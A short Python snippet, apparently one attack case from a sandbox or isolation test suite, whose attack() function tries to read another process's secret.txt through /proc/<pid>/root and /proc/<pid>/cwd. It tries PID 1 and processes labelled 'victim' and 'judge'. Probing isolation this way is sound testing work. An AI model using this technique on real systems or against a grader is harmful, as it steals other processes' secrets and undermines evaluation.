"""By the root of another process."""
# ruff: noqa

import os


def attack():
    for pid in ("self", "1", str(FACTS["victim"]), str(FACTS["judge"])):
        for way in ("root", "cwd"):
            try:
                return hunt(open(f"/proc/{pid}/{way}" + FACTS["folder"] + "/secret.txt").read())
            except OSError:
                pass
